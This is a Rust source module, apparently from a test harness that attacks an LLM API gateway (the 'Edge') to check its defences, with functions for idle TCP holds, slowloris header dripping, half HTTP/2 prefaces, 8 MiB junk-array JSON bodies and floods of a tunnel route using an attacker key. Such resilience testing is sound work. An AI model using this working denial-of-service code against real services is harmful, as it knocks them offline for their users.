//! Client-side attacks: raw TCP floods and abusive requests with a valid key.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use bytes::Bytes;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use crate::{ATTACKER_KEY, AttackStats};

/// The HTTP/2 connection preface.
const H2_PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// How often a hostile connection looks at `stop` while it waits.
const POLL: Duration = Duration::from_millis(250);

fn stopped(stop: &AtomicBool) -> bool {
    stop.load(Ordering::Relaxed)
}

/// Connect, send `opening`, then every `drip` (if any) one more header
/// line, until the Edge closes the connection; then again, until `stop`.
async fn hold_connection(
    addr: SocketAddr,
    opening: &'static [u8],
    drip: Option<Duration>,
    stop: Arc<AtomicBool>,
    stats: Arc<AttackStats>,
) {
    let mut buf = [0u8; 512];
    while !stopped(&stop) {
        let mut tcp = match TcpStream::connect(addr).await {
            Ok(tcp) => tcp,
            Err(_) => {
                stats.count("connect errors");
                tokio::time::sleep(Duration::from_millis(50)).await;
                continue;
            }
        };
        stats.count("connections");
        if !opening.is_empty() && tcp.write_all(opening).await.is_err() {
            continue;
        }
        let mut next_drip = tokio::time::Instant::now() + drip.unwrap_or(POLL);
        loop {
            if stopped(&stop) {
                return;
            }
            match tokio::time::timeout(POLL, tcp.read(&mut buf)).await {
                // Closed (or answered, then closed) by the Edge.
                Ok(Ok(0) | Err(_)) => {
                    stats.count("closed by edge");
                    break;
                }
                Ok(Ok(_)) => {
                    if buf.starts_with(b"HTTP/1.1 503") {
                        stats.count("503 refusals");
                    }
                }
                Err(_) => {}
            }
            if drip.is_some() && tokio::time::Instant::now() >= next_drip {
                next_drip += drip.unwrap_or(POLL);
                if tcp.write_all(b"x-pad: 1\r\n").await.is_err() {
                    stats.count("closed by edge");
                    break;
                }
            }
        }
    }
}

/// What a held connection sends: nothing, a request head one header line a
/// second (slowloris), or half the HTTP/2 preface.
#[derive(Clone, Copy)]
pub(crate) enum Hold {
    Idle,
    Slowloris,
    HalfH2Preface,
}

/// `count` connections that each send what `hold` says and then hold on.
pub(crate) fn hold_connections(
    tasks: &mut JoinSet<()>,
    addr: SocketAddr,
    count: usize,
    hold: Hold,
    stop: &Arc<AtomicBool>,
    stats: &Arc<AttackStats>,
) {
    let (preface, drip): (&'static [u8], _) = match hold {
        Hold::Idle => (b"", None),
        Hold::Slowloris => (
            b"POST /v1/chat/completions HTTP/1.1\r\nhost: edge\r\n",
            Some(Duration::from_secs(1)),
        ),
        Hold::HalfH2Preface => (&H2_PREFACE[..12], None),
    };
    for _ in 0..count {
        tasks.spawn(hold_connection(
            addr,
            preface,
            drip,
            stop.clone(),
            stats.clone(),
        ));
    }
}

/// A chat body of just under 8 MiB whose messages are a junk array of
/// small objects (the worst case for a JSON tree: each `{"":0},` would
/// become a map node of several hundred bytes, about 100 bytes per input
/// byte; the Edge must refuse it from its decoded size, unparsed).
fn junk_body() -> Bytes {
    let target = 8 * 1024 * 1024 - 1024;
    let mut body = String::with_capacity(target + 64);
    body.push_str(r#"{"model":"m","messages":["#);
    while body.len() < target {
        body.push_str(r#"{"":0},"#);
    }
    body.push_str("0]}");
    Bytes::from(body)
}

/// `count` concurrent clients with the attacker's valid key, each sending
/// 8 MiB junk-array bodies back to back.
pub(crate) fn junk_bodies(
    tasks: &mut JoinSet<()>,
    addr: SocketAddr,
    count: usize,
    stop: &Arc<AtomicBool>,
    stats: &Arc<AttackStats>,
) {
    let body = junk_body();
    let client = match reqwest::Client::builder()
        .timeout(Duration::from_secs(30))
        .build()
    {
        Ok(c) => c,
        Err(_) => return,
    };
    for _ in 0..count {
        let (body, client, stop, stats) =
            (body.clone(), client.clone(), stop.clone(), stats.clone());
        tasks.spawn(async move {
            while !stopped(&stop) {
                let sent = client
                    .post(format!("http://{addr}/v1/chat/completions"))
                    .bearer_auth(ATTACKER_KEY)
                    .header("content-type", "application/json")
                    .body(body.clone())
                    .send()
                    .await;
                match sent {
                    Ok(r) => {
                        stats.count(format!("status {}", r.status().as_u16()));
                        let _ = r.bytes().await;
                    }
                    Err(_) => {
                        stats.count("transport errors");
                        tokio::time::sleep(Duration::from_millis(50)).await;
                    }
                }
            }
        });
    }
}

/// `count` concurrent clients asking the hostile node's tunnel route.
pub(crate) fn tunnel_requests(
    tasks: &mut JoinSet<()>,
    addr: SocketAddr,
    count: usize,
    stop: &Arc<AtomicBool>,
    stats: &Arc<AttackStats>,
) {
    let client = match reqwest::Client::builder()
        .timeout(Duration::from_secs(10))
        .build()
    {
        Ok(c) => c,
        Err(_) => return,
    };
    for _ in 0..count {
        let (client, stop, stats) = (client.clone(), stop.clone(), stats.clone());
        tasks.spawn(async move {
            while !stopped(&stop) {
                let sent = client
                    .post(format!("http://{addr}/v1/chat/completions"))
                    .bearer_auth(ATTACKER_KEY)
                    .header("content-type", "application/json")
                    .body(r#"{"model":"evil","messages":[{"role":"user","content":"hi"}]}"#)
                    .send()
                    .await;
                match sent {
                    Ok(r) => {
                        stats.count(format!("status {}", r.status().as_u16()));
                        let _ = r.bytes().await;
                    }
                    Err(_) => {
                        stats.count("transport errors");
                        tokio::time::sleep(Duration::from_millis(50)).await;
                    }
                }
            }
        });
    }
}
